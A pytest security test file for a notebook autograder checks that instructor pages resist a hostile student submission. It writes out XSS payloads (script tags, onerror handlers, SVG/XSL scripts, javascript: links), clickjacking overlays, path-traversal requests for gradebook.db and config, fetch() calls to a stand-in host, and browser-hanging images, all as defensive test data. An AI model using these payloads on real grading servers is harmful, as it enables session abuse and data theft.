"""Attacks on the instructor's browser, in a real one: the formgrader, the feedback, and the page of an audit."""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from autograder.audit.audited import Audit
from autograder.audit.matrix import write_page
from autograder.course.sprint import Sprint
from autograder.grading.outcome import Outcome
from autograder.grading.results import CellResult, Results, TestResult
from tests.bridge.test_pictures import HARD, png, used
from tests.support.browsers import Seen, browser, click_everything, needs_browser
from tests.support.classes import MAIN
from tests.support.courses import ANSWERS, NOTEBOOK, SLUG, answer, command, python, release_plain_course
from tests.support.jails import needs_sandbox
from tests.support.labs import TOKEN, get, running_lab
from tests.support.pages_made import page as page_made
from tests.support.paths import ROOT

pytestmark = [needs_sandbox, needs_browser, pytest.mark.slow]
ELSEWHERE = "http://elsewhere.example"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SCRIPT = (
    "console.log('RAN in {0}'); fetch('{1}/{0}'); "
    "fetch('/formgrader/api/assignments').then(r => console.log('RAN got ' + r.status))"
)
XHTML = "http://www.w3.org/1999/xhtml"
PAGE = '<!DOCTYPE html><html><body><script>{}</script><img src=x onerror="{}"></body></html>'
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg"><script>{}</script><rect width="99" height="99"/></svg>'


def script(name: str) -> str:
    return SCRIPT.format(name, ELSEWHERE)


FILES = {
    "evil.html": PAGE.format(script("html"), script("html").replace('"', "'")),
    "evil.xhtml": f'<html xmlns="{XHTML}"><script>{script("xhtml").replace(">", "&gt;")}</script></html>',
    "evil.svg": DRAWING.format(script("svg").replace(">", "&gt;")),
    "evil.png": PAGE.format(script("png"), ""),
    "evil": PAGE.format(script("nothing"), ""),
    "evil.xml": f'<?xml-stylesheet href="evil.xsl" type="text/xsl"?><x><s xmlns="{XHTML}">{script("xml")}</s></x>',
    "evil.js": script("js"),
    "evil.css": f"@import '{ELSEWHERE}/css';",
    "evil.pdf": "%PDF-1.4",
}
UP = ("", "./", "..%2F..%2F..%2Fsubmitted%2Feve%2Fdoubling%2F", "../../../../files/course/submitted/eve/doubling/")
COVERS = (
    "padding:3000px;margin:-3000px", "position:fixed;top:0;left:0;width:100%;height:100%", "margin:-900px 0 0 -900px",
    "width:99999px;height:99999px",
)  # fmt: skip
CLASSES = (
    "modal in",
    "navbar-fixed-top",
    "help",
    "tooltip in",
    "dropdown-menu",
    "modal-backdrop in",
    "affix",
    "carousel-control",
)


def texts() -> list[str]:
    """Text cells that lead to each file in each way, and cover the page in each."""
    links = [f'[{name}]({up}{name}) <a href="{up}{name}">x</a> ![p]({up}{name})' for name in FILES for up in UP]
    covers = [f'<a href="evil.html" style="{style}">cover</a>' for style in COVERS]
    covers += [f'<a href="evil.html" class="{names}"><div class="{names}">cover</div></a>' for names in CLASSES]
    loads = f"""
<img src="{ELSEWHERE}/img"> ![x]({ELSEWHERE}/md) <link rel=stylesheet href="{ELSEWHERE}/css">
<div style="background-color:red;background:url({ELSEWHERE}/bg);list-style-image:url({ELSEWHERE}/li)">x</div>
<video poster="{ELSEWHERE}/v" src="{ELSEWHERE}/v"></video> <object data="evil.svg"></object>
<iframe src="evil.html"></iframe> <embed src="evil.svg">
<form action="/formgrader/api/assignments" method=post><button>go</button></form>
<meta http-equiv=refresh content="0;{ELSEWHERE}">
<base href="{ELSEWHERE}/"> <a href="{ELSEWHERE}/click">away</a> <a href="//elsewhere.example/click">away</a>
<a href="/logout">out</a> [js](javascript:console.log('RAN')) <a ping="{ELSEWHERE}/ping" href="#x">ping</a>
$\\href{{javascript:console.log('RAN formula')}}{{click}}$ $\\style{{position:fixed}}{{x}}$ $\\unicode{{x3c}}$
<input id="double" class="score" value="99"> <b id="double">0</b>
<details open><summary>more</summary>x</details> ![a](attachment:a.svg)
"""
    return [*links, *covers, loads]


WRITES = f"""
for name, text in {json.dumps(FILES)}.items():
    open("written-" + name, "w").write(text)
from IPython.display import display
for kind in ("text/html", "image/svg+xml", "text/markdown", "text/latex", "application/javascript", "text/vnd.mermaid"):
    display({{kind: {FILES["evil.html"]!r} + {FILES["evil.svg"]!r}}}, raw=True)
    display({{kind: "<a href='written-evil.html'>x</a> $x^2$ <img src={ELSEWHERE}/out>"}}, raw=True)
"""


SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900">{}</svg>'
DRAWS = f"""
from IPython.display import display
for drawing in {[SVG.format(used(9)), SVG.format(HARD["one long line"])]}:
    display({{"image/svg+xml": drawing}}, raw=True)
display({{"image/png": {png(20_000, 20_000)!r}}}, raw=True)
display({{"image/svg+xml": {SVG.format('<circle id="small" r="9"/>')!r}}}, raw=True)
"""
"""Drawings of a few kilobytes that a browser never ends, and a picture that takes it 2 GB; and one that is harmless."""


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course in which one student is honest and eve is not; graded, with feedback."""
    root = tmp_path_factory.mktemp("course")
    release_plain_course(root)
    for student in ("ada", "eve", "eva"):
        nb = answer(nbformat.read(root / "assignments" / SLUG / NOTEBOOK, as_version=4), **ANSWERS)
        folder = root / "course" / "submitted" / student / SLUG
        folder.mkdir(parents=True)
        (folder / "plot.png").write_bytes(PIXEL)
        if student != "ada":
            nb = answer(nb, solve_half=f"def half(x): raise ValueError({PAGE.format(script('message'), '')!r})")
        if student == "eve":
            nb.cells[3:3] = [*map(new_markdown_cell, texts()), new_code_cell(WRITES)]
            for name, text in FILES.items():
                (folder / name).write_text(text)
        elif student == "eva":
            nb.cells[3:3] = [new_code_cell(DRAWS)]
        elif student == "ada":
            nb.cells[3:3] = [new_markdown_cell("A picture ![p](plot.png) and a formula $x^2$")]
        nbformat.write(nb, folder / NOTEBOOK)
    command(root, "autograde", SLUG)
    command(root, "generate_feedback", SLUG)
    return root


@pytest.fixture(scope="module")
def lab(course: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    path = os.pathsep.join(filter(None, (str(ROOT), os.environ.get("PYTHONPATH"))))
    with running_lab(course, tmp_path_factory.mktemp("lab"), PYTHONPATH=path) as address:
        yield address


@pytest.fixture
def chromium() -> Iterator[tuple[Any, Seen]]:
    with browser() as made:
        yield made


def page_of(lab: str, context: Any, student: str) -> str:
    """The address of the page that a student's submission is graded on, once the browser is logged in."""
    rows = json.loads(get(f"{lab}formgrader/api/submitted_notebooks/{SLUG}/{SLUG}"))
    page = context.new_page()
    page.goto(f"{lab}formgrader/manage_students?token={TOKEN}")
    page.close()
    return f"{lab}formgrader/submissions/{next(row['id'] for row in rows if row['student'] == student)}/"


def test_the_formgraders_page_of_a_hostile_submission(lab: str, chromium: tuple[Any, Seen]) -> None:
    """Does nothing of it run, load from elsewhere or lead there, whatever is clicked on?"""
    context, seen = chromium
    address = page_of(lab, context, "eve")
    assert click_everything(context, address, "#notebook-container :is(a, img, button, summary, b)") > 100
    assert seen.ran == []
    assert seen.elsewhere(lab) == set()
    assert not [one for one in seen.asked if "/logout" in one]


def test_files_of_a_submission_are_pictures_or_downloads(lab: str, chromium: tuple[Any, Seen]) -> None:
    """Whichever address is typed in, of what was handed in and of what the notebook wrote."""
    context, seen = chromium
    address = page_of(lab, context, "eve")
    page = context.new_page()
    for name in [*FILES, *(f"written-{name}" for name in FILES)]:
        for up in UP:
            reply = page.request.get(f"{address}{up}{name}")
            if up in ("", "./"):
                assert (reply.status, reply.headers["content-type"]) == (200, "application/octet-stream")
                assert reply.headers["content-disposition"] == "attachment"
                assert reply.headers["content-security-policy"] == "default-src 'none'; sandbox"
                assert reply.headers["x-content-type-options"] == "nosniff"
            else:
                served = "/login" not in reply.url and reply.status == 200
                assert not served or "attachment" in reply.headers.get("content-disposition", "")
    for secret in ("gradebook.db", "seed", "../nbgrader_config.py"):
        assert page.request.get(f"{address}..%2F..%2F..%2F{secret}").status in (403, 404)
    assert seen.ran == []


def test_an_honest_page_is_as_it_was(lab: str, chromium: tuple[Any, Seen]) -> None:
    """Is the picture shown, the formula set, and nothing loaded from elsewhere, without an error of the policy?"""
    context, seen = chromium
    errors: list[str] = []
    context.on("console", lambda said: errors.append(said.text) if said.type == "error" else None)
    address = page_of(lab, context, "ada")
    page = context.new_page()
    page.goto(address, wait_until="networkidle")
    picture = page.locator("#notebook-container img[alt=p]")
    assert picture.evaluate("it => [it.naturalWidth, it.naturalHeight]") == [1, 1]
    assert page.locator("#notebook-container math msup").count() == 1
    assert page.locator("input.score").count() == 5
    assert [text for text in errors if "Content Security Policy" in text or "Refused" in text] == []
    assert seen.elsewhere(lab) == set()


def test_every_button_can_be_reached(lab: str, chromium: tuple[Any, Seen]) -> None:
    """Does nothing of the student's lie over the formgrader's own buttons and links?"""
    context, _ = chromium
    page = context.new_page()
    page.goto(page_of(lab, context, "eve"), wait_until="networkidle")
    covered = page.evaluate("""() => [...document.querySelectorAll('.scoring-buttons button, input.score, nav a')]
        .filter(it => { it.scrollIntoView({block: 'center'}); const box = it.getBoundingClientRect();
            if (!box.width) return false;
            const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
            return !(it.contains(top) || (top && top.contains(it))); }).map(it => it.outerHTML)""")
    assert page.locator(".scoring-buttons button").count() >= 9
    assert covered == []


@pytest.mark.parametrize("list_", ["manage_assignments", "manage_students", f"manage_submissions/{SLUG}", "gradebook"])
def test_the_formgraders_lists_load_nothing_from_elsewhere(lab: str, chromium: tuple[Any, Seen], list_: str) -> None:
    context, seen = chromium
    page_of(lab, context, "eve")
    page = context.new_page()
    page.goto(f"{lab}formgrader/{list_}", wait_until="networkidle")
    page.wait_for_selector("table tbody tr td")
    assert "Please wait" not in page.inner_text("table")
    assert seen.elsewhere(lab) == set()


def test_feedback(course: Path, chromium: tuple[Any, Seen]) -> None:
    """Does a page of feedback ask for nothing when it is opened or clicked on, but for links that lead out?"""
    context, seen = chromium
    page = course / "course" / "feedback" / "eve" / SLUG / f"{SLUG}.html"
    assert click_everything(context, page.as_uri(), "body :is(a:not([rel]), img, button, summary, b)") > 50
    assert seen.ran == []
    assert {one for one in seen.asked if not one.startswith(("file:", "data:", "about:"))} == set()
    assert ELSEWHERE + '/click">' not in page.read_text()
    assert "<script" not in page.read_text()


@pytest.mark.parametrize("where", ["feedback", "formgrader"])
def test_drawings_that_never_end_are_not_drawn(lab: str, course: Path, chromium: tuple[Any, Seen], where: str) -> None:
    """Is the page there, with a line for each of them, and with the harmless drawing?"""
    context, _ = chromium
    feedback = course / "course" / "feedback" / "eva" / SLUG / f"{SLUG}.html"
    page = context.new_page()
    page.goto(feedback.as_uri() if where == "feedback" else page_of(lab, context, "eva"))
    page.screenshot()
    assert page.content().count("cannot draw quickly") == 3
    shown = [
        base64.b64decode(one.partition(",")[2])
        for one in page.locator("img").evaluate_all("all => all.map(it => it.src)")
    ]
    assert [b"small" in one for one in shown if b"<svg" in one] == [True]


def test_without_the_look_at_drawings_a_page_never_comes(
    course: Path, chromium: tuple[Any, Seen], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The protection taken out: a page with what the same notebook drew."""
    from playwright.sync_api import TimeoutError as NeverCame

    monkeypatch.setattr("autograder.bridge.page_parts.can_be_shown", lambda kind, text: True)
    graded = nbformat.read(course / "course" / "autograded" / "eva" / SLUG / NOTEBOOK, as_version=4)
    drawn = [one for cell in graded.cells for one in cell.get("outputs", []) if "image/svg+xml" in one.get("data", {})]
    assert len(drawn) == 3
    (tmp_path / "page.html").write_text(page_made(new_notebook(cells=[new_code_cell(outputs=drawn)])))
    page = chromium[0].new_page()
    with pytest.raises(NeverCame):
        page.goto((tmp_path / "page.html").as_uri(), timeout=15_000)
        page.screenshot(timeout=15_000)


@pytest.mark.parametrize("html", ["<p style='height:999in'>x</p>" * 900, "<h1 style='margin:999em'>x</h1>" * 2_000])
@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_nothing_is_so_tall_that_what_follows_cannot_be_reached(
    chromium: tuple[Any, Seen], tmp_path: Path, template: str, html: str
) -> None:
    """A browser's page ends at 33 million pixels: is the last score still on it, where a click finds it?"""
    output = nbformat.from_dict({"output_type": "display_data", "data": {"text/html": html}, "metadata": {}})
    about = {"grade_id": "last", "grade": True, "solution": False, "points": 1, "score": 1, "locked": True}
    last = new_code_cell("assert True", metadata={"nbgrader": about | {"schema_version": 3}})
    nb = new_notebook(cells=[new_code_cell(outputs=[output]), last])
    (tmp_path / "page.html").write_text(page_made(nb, template))
    page = chromium[0].new_page()
    page.goto((tmp_path / "page.html").as_uri())
    found = page.evaluate("""() => {
        const it = document.getElementById('last') || [...document.querySelectorAll('.panel-heading a')].pop();
        it.scrollIntoView({block: 'center'});
        const box = it.getBoundingClientRect();
        return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2) === it;
    }""")
    assert found


def test_the_report_on_a_class(course: Path, tmp_path: Path, chromium: tuple[Any, Seen]) -> None:
    """Is it text, though a hostile student's messages are in it?"""
    context, seen = chromium
    python(course, "-c", MAIN, "report", SLUG, "--html", str(tmp_path / "report.html"))
    page = tmp_path / "report.html"
    click_everything(context, page.as_uri(), "body :is(a:not([href*='formgrader']), summary, button, img, svg)")
    assert "<script" not in page.read_text()
    assert "RAN in message" in page.read_text(), "the message is there, as text"
    assert seen.ran == []
    assert not [one for one in seen.asked if not one.startswith(("file:", "data:", "about:"))]


def test_the_page_of_an_audit(tmp_path: Path, chromium: tuple[Any, Seen]) -> None:
    """Is it text, even if a sprint's titles and solutions are hostile?"""
    context, seen = chromium
    evil = f"<script>{script('audit')}</script><img src={ELSEWHERE}/audit onerror=console.log('RAN')>"
    test = TestResult(f"test_{evil}", evil, Outcome.FAILED, 0, 1, evil)
    results = Results(evil, evil, [CellResult(evil, 1, [test])])
    sprint = Sprint(evil, tmp_path, tmp_path)
    audit = Audit(sprint, fast=True, tests=[test.name], right={evil: results}, wrong={evil: results})
    write_page(audit, tmp_path / "audit.html")
    address = (tmp_path / "audit.html").as_uri()
    click_everything(context, address, "body *")
    assert evil not in (tmp_path / "audit.html").read_text()
    assert seen.ran == []
    assert set(seen.asked) == {address}


STOCK = """
from pathlib import Path
from autograder.bridge.config import configure_folders
c = get_config()
root = Path(__file__).resolve().parent
configure_folders(c, root, root / "course")
"""


def test_with_stock_settings_scripts_run(
    course: Path, chromium: tuple[Any, Seen], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The protection taken out: nbgrader's own formgrader on the same class."""
    config = course / "nbgrader_config.py"
    ours = config.read_text()
    config.write_text(STOCK)
    path = os.pathsep.join(filter(None, (str(ROOT), os.environ.get("PYTHONPATH"))))
    try:
        with running_lab(course, tmp_path_factory.mktemp("stock"), PYTHONPATH=path) as lab:
            context, seen = chromium
            address = page_of(lab, context, "eve")
            page = context.new_page()
            page.goto(address)
            page.wait_for_timeout(500)
            assert any("cdnjs" in one for one in seen.elsewhere(lab)), "MathJax"
            assert any(f"{ELSEWHERE}/" in one for one in seen.elsewhere(lab)), "pictures"
            page.goto(f"{address}..%2F..%2F..%2Fsubmitted%2Feve%2Fdoubling%2Fevil.html")
            page.wait_for_timeout(500)
            assert "RAN got 200" in seen.ran, set(seen.ran)
    finally:
        config.write_text(ours)
